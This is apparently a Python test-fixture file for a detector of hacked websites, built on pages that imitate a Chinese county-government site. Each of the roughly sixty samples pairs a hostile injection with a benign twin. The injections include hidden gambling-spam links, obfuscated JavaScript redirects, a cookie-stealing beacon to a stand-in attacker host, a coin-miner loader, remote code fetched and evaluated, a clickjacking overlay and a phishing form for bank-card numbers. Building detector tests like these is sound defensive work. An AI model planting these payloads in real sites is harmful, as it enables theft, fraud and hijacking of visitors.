"""Sixty attacks more, after reports of the last years; written before the judge was read. None is in the earlier sets.

Each has its clean twin: what an honest editor, script or template would have put in the same place.
"""

import base64
from collections.abc import Iterator

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home
from tests.pages.imitations.skins import bare

_HOST = BAD.removeprefix("http://")
_SPAM = f"<a href='{BAD}/1.html'>某某娱乐</a> <a href='{BAD}/2.html'>某某平台</a> <a href='{BAD}/3.html'>某某官网</a>"
_TRADES = f"<a href='{BAD}/1'>货架厂家</a><a href='{BAD}/2'>办公家具</a><a href='{BAD}/3'>空压机</a>"
_OURS = "<a href='/zfxxgk/'>政府信息公开</a><a href='/zmhd/'>政民互动</a><a href='/sjkf/'>数据开放</a>"
_PARTNERS = f"<a href='{GOOD}/'>云山旅游</a><a href='https://www.cq.gov.cn/'>重庆市人民政府</a>"
_CODE = base64.b64encode(f"window.location.href='{BAD}/wap'".encode()).decode()


def _hidden(name: str, style: str, twin: str, links: str = _TRADES) -> Attack:
    return Attack(name, home(f'<div style="{style}">{links}</div>'), home(f'<div style="{twin}">{_PARTNERS}</div>'))


def _ruled(name: str, sheet: str, twin: str) -> Attack:
    box = "<div class='yq_a' id='yq_b'>{}</div>"
    return Attack(
        name,
        home(box.format(_TRADES), head=f"<style>{sheet}</style>"),
        home(box.format(_PARTNERS), head=f"<style>{twin}</style>"),
    )


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(f"<script>{script}</script>"), home(f"<script>{twin}</script>"), plain)


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _out_of_sight() -> Iterator[Attack]:
    yield _hidden("margin to the left", "margin-left:-9999px", "margin-left:-15px")
    yield _hidden("to the right of everything", "position:absolute;right:-9000px", "position:absolute;right:10px")
    yield _hidden("many ems above", "position:absolute;top:-999em", "position:absolute;top:1em")
    yield _hidden("filter of old browsers", "filter:alpha(opacity=0);opacity:0", "filter:alpha(opacity=80);opacity:.8")
    yield _hidden("moved by a transform", "transform:translateX(-9999px)", "transform:translateX(-50%)")
    yield _hidden("cut by a path", "clip-path:inset(100%)", "clip-path:inset(0 round 8px)")
    yield _hidden("circle of nothing", "clip-path:circle(0)", "clip-path:circle(50%)")
    yield _hidden("colour without alpha", "color:rgba(0,0,0,0);font-size:1px", "color:rgba(0,0,0,.6);font-size:12px")
    yield _hidden("collapsed", "visibility:collapse", "visibility:visible")
    yield _hidden("escape in the word", "display:n\\6fne", "display:block")
    yield _hidden("remark in the value", "display:/*x*/none", "display:/*x*/block")
    yield _hidden("by a variable", "--v:none;display:var(--v)", "--v:block;display:var(--v)")
    yield _hidden("no width", "max-width:0;overflow:hidden;white-space:nowrap", "max-width:100%;overflow:hidden")
    yield _hidden(
        "all edges far off",
        "position:fixed;inset:-9999px auto auto -9999px",
        "position:fixed;inset:auto 20px 20px auto",
    )
    yield _hidden("capitals", "POSITION:ABSOLUTE;LEFT:-3000PX", "POSITION:RELATIVE;LEFT:3PX")
    yield _put("attribute hidden", f"<div hidden>{_SPAM}</div>", f"<div hidden>{_OURS}</div>")
    yield _put(
        "a table that is not shown",
        f"<table style='display:none'><tr><td>{_TRADES}</td></tr></table>",
        "<table style='display:none'><tr><td>序号</td><td>名称</td></tr></table>",
    )
    yield _put(
        "each link by itself",
        "".join(f"<a href='{BAD}/{n}' style='display:none'>产品{n}</a>" for n in range(6)),
        "".join(f"<a href='/tz/{n}' style='display:none'>通知{n}</a>" for n in range(6)),
    )
    yield _put(
        "dialogue that is never opened",
        f"<dialog>{_SPAM}</dialog>",
        "<dialog><p>即将离开本网站</p><button>确定</button></dialog>",
    )
    yield _put(
        "a cover that takes every click",
        f"<a href='{BAD}/' style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;opacity:0'></a>",
        "<a href='#top' style='position:fixed;right:20px;bottom:60px;z-index:999'>返回顶部</a>",
    )
    yield _put(
        "hidden pages of the own site",
        "<div style='display:none'><a href='/kyty/app.html'>开云体育app下载</a><a href='/lyty/'>乐鱼体育官网登录</a>"
        "</div>",
        "<div style='display:none'><a href='/tyzx/'>体育中心场馆预约</a><a href='/lyxx/'>旅游信息</a></div>",
    )
    yield _ruled(
        "by a condition",
        "@supports (display:grid){.yq_a{display:none}}",
        "@supports (display:grid){.yq_a{display:grid}}",
    )
    yield _ruled(
        "in a layer", "@layer x{.yq_a{position:absolute;top:-2000px}}", "@layer x{.yq_a{position:relative;top:2px}}"
    )
    yield _ruled(
        "links in the colour of the ground",
        "#yq_b{background:#f5f5f5}#yq_b a{color:#f5f5f5}",
        "#yq_b{background:#f5f5f5}#yq_b a{color:#333}",
    )
    yield _ruled("children without size", ".yq_a>a{font-size:0}", ".yq_a>a{font-size:14px}")
    yield _ruled("by an attribute", "[class^=yq_]{visibility:hidden}", "[class^=yq_]{visibility:inherit}")


def _by_code() -> Iterator[Attack]:
    yield _run(
        "back button caught",
        f"history.pushState(null,null,'#');window.onpopstate=function(){{location.replace('{BAD}/back')}};",
        "window.onpopstate=function(){loadTab(location.hash)};",
    )
    yield _run(
        "every click opens",
        f"document.onclick=function(){{window.open('{BAD}/c')}}",
        "document.onclick=function(){closeMenu()}",
    )
    yield _run(
        "backwards",
        f"location.href='{BAD[::-1]}'.split('').reverse().join('')",
        "var s='abc'.split('').reverse().join('');",
    )
    yield _run(
        "escapes in the address",
        "window.location.href='" + "".join(f"\\x{ord(c):02x}" for c in BAD) + "';",
        "var sep='\\x20\\x2f\\x20';",
    )
    yield _run(
        "escapes in the name",
        "window['\\u006c\\u006f\\u0063\\u0061\\u0074\\u0069\\u006f\\u006e']='" + BAD + "/u';",
        "var name='\\u4e91\\u5c71\\u53bf';",
    )
    yield _run("method from base64", f"location[atob('cmVwbGFjZQ==')]('{BAD}/r')", "var l=location[('pathname')];")
    yield _run(
        "frame put in by the library",
        f"$('body').append('<iframe src=\"{BAD}/f\" style=\"width:0;height:0;border:0\"></iframe>')",
        "$('body').append('<div class=\"totop\">返回顶部</div>')",
    )
    yield _run(
        "whole body written over",
        f"document.body.innerHTML='<iframe src=\"{BAD}/\" width=100% height=100% frameborder=0></iframe>'",
        "document.getElementById('tq').innerHTML='<span>晴</span>'",
    )
    yield _run(
        "links put into a hidden box",
        f"var d=document.createElement('div');d.style.display='none';d.innerHTML=\"<a href='{BAD}/1'>甲</a>\";"
        f"document.body.appendChild(d)",
        "var d=document.createElement('div');d.className='tip';d.innerHTML='加载完成';document.body.appendChild(d)",
    )
    yield _run(
        "nothing but brackets",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+"
        "(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]((!![]+[])[+[]])()",
        "var on=!![];var off=![];if(on&&!off){start()}",
    )
    yield _run(
        "faces",
        "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻ //*´∇｀*/ ['_']; o=(ﾟｰﾟ) =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) ['_']( (ﾟДﾟ) ['_'] (ﾟεﾟ+(ﾟДﾟ)[ﾟoﾟ]) (ﾟΘﾟ)) ('_');",
        "var face='^_^';var tip='欢迎光临';",
    )
    yield _run(
        "packed",
        "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[fu"
        "nction(e){"
        "return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new "
        "RegExp('\\\\b'+e(c)+'\\\\b','g'),"
        "k[c])}}return p}('0.1.2=\"3://4.5.6.7/\"',8,8,'window|location|href|http|www|jt7788|example|vip'.split('|'),"
        "0,{}))",
        "var p='0.1'.split('.');for(var i=0;i<p.length;i++){total+=Number(p[i])}",
    )
    yield _run(
        "cookies sent away",
        f"new Image().src='{BAD}/c.gif?c='+encodeURIComponent(document.cookie)",
        "new Image().src='/count.gif?r='+Math.random()",
    )
    yield _run(
        "a miner",
        f"var m=document.createElement('script');m.src='{BAD}/coinhive.min.js';m.onload=function(){{new CoinHive.Anon"
        f"ymous('k').start()}};document.head.appendChild(m)",
        "var m=document.createElement('script');m.src='/js/swiper.min.js';m.onload=function(){new Swiper('.b')};"
        "document.head.appendChild(m)",
        plain=False,
    )
    yield _run(
        "script written into the page",
        f"document.write('<scr'+'ipt src=\"//{_HOST}/tj.js\"></scr'+'ipt>')",
        "document.write('<scr'+'ipt src=\"/js/tj.js\"></scr'+'ipt>')",
        plain=False,
    )
    yield _run(
        "searchers by name of the engine",
        f"var e=['baidu.','sogou.','so.com','bing.'];for(var i in e){{if(document.referrer.indexOf(e[i])!=-1){{self.l"
        f"ocation='{BAD}/s'}}}}",
        "var e=['a','b'];for(var i in e){if(document.title.indexOf(e[i])!=-1){mark(e[i])}}",
    )
    yield _run(
        "only at night",
        f"var h=new Date().getHours();if(h>=20||h<8){{top.location.href='{BAD}/n'}}",
        "var h=new Date().getHours();if(h>=20||h<8){document.body.className='night'}",
    )
    yield _run(
        "timer that is given a text", f"setTimeout(\"location='{BAD}/t'\",1500)", 'setTimeout("showTime()",1000)'
    )
    yield _run(
        "asked for and run",
        f"var x=new XMLHttpRequest();x.open('GET','{BAD}/p');x.onload=function(){{(0,eval)(x.responseText)}};x.send()",
        "var x=new XMLHttpRequest();x.open('GET','/tq.json');x.onload=function(){show(JSON.parse(x.responseText))};"
        "x.send()",
    )
    yield _put(
        "module",
        f"<script type='module'>import a from '{BAD}/m.js';a()</script>",
        "<script type='module'>import a from '/js/m.js';a()</script>",
    )


def _in_attributes() -> Iterator[Attack]:
    yield _put(
        "code in an id",
        f"<img src=x id='{_CODE}' onerror='eval(atob(this.id))'>",
        "<img src='/a.jpg' id='tp' onerror='this.remove()'>",
    )
    yield _put("drawing that loads", f"<svg onload=\"location='{BAD}/v'\"></svg>", "<svg><circle r='5'></circle></svg>")
    yield _put(
        "field that takes the focus",
        f"<input autofocus onfocus=\"top.location='{BAD}/i'\">",
        "<input placeholder='请输入' onfocus=\"this.value=''\">",
    )
    yield _put(
        "link of code",
        f"<a href=\"javascript:location.href='{BAD}/j'\">办事大厅</a>",
        "<a href='javascript:void(0)'>办事大厅</a>",
    )
    yield _put("frame of data", "<iframe width=0 height=0 src='data:text/html;base64," + base64.b64encode(f"<script>"
        f"top.location='{BAD}'</script>".encode()).decode() + "'"
        "></iframe>",
               "<iframe width=300 height=80 src='/tianqi.html'></iframe>")  # fmt: skip
    yield _put(
        "object of another host",
        f"<object data='{BAD}/' type='text/html' width='0' height='0'></object>",
        "<object data='/map.svg' type='image/svg+xml'></object>",
    )
    yield _put(
        "form for cards",
        f"<form action='{BAD}/save'>姓名<input name=xm>身份证号<input name=sfzh>银行卡号<input name=yhk><button>"
        f"领取补贴</button></form>",
        "<form action='/ss'>关键词<input name=q><button>检索</button></form>",
    )


def _in_heads() -> Iterator[Attack]:
    yield Attack(
        "title of a new brand", home(title="乐鱼(中国)体育官方网站-LEYU SPORTS"), home(title="云山县第八届乐鱼节开幕")
    )
    yield Attack(
        "title in figures",
        home(title="".join(f"&#{ord(c)};" for c in "九游娱乐app官网下载")),
        home(title="".join(f"&#{ord(c)};" for c in "九龙村乡村旅游节")),
    )
    yield Attack(
        "card for friends",
        home(head="<meta property='og:title' content='真人百家乐_AG亚游集团'>"),
        home(head="<meta property='og:title' content='云山县人民政府'>"),
    )
    yield Attack(
        "telephones' page elsewhere",
        home(head=f"<link rel='alternate' media='only screen and (max-width:640px)' href='{BAD}/m/'>"),
        home(head="<link rel='alternate' media='only screen and (max-width:640px)' href='http://m.yunshan.example/'>"),
    )
    yield Attack(
        "second title",
        home(head="<title>欧洲杯买球入口-米兰体育</title>"),
        home(head="<meta name='title' content='云山县人民政府'>"),
    )
    yield Attack("defaced", home("<h1>Hacked By Mr.X</h1><p>Your security is low. Contact: x@mail.example</p>",
                title="H"
        "acked By Mr.X"),
                 home("<h1>网络安全宣传周</h1><p>防范黑客入侵，提高安全意识</p>", title="网络安全宣传周"))  # fmt: skip
    yield Attack("another page altogether", bare("<h1>彩票开奖直播</h1><p>注册送彩金，六合彩资料大全，充值秒到账</p>"
                                                 "" + _SPAM, "<"
        "title>彩票之家</title>"),
                 home("<h1>福利彩票公益金使用情况</h1><p>我县福彩公益金用于养老项目</p>"))  # fmt: skip


FRESH_ATTACKS = (*_out_of_sight(), *_by_code(), *_in_attributes(), *_in_heads())
